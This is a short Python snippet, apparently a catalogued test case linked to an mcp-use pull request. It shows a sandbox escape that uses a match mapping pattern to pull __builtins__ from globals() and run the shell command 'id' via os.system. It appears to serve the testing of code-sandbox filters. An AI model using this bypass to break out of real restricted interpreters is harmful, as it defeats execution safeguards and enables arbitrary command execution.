# Source: https://github.com/mcp-use/mcp-use/pull/1735
# Family: match-statement
# What: match mapping pattern captures __builtins__ from globals()
match globals():
    case {"__builtins__": b}:
        b.__import__("os").system("id")
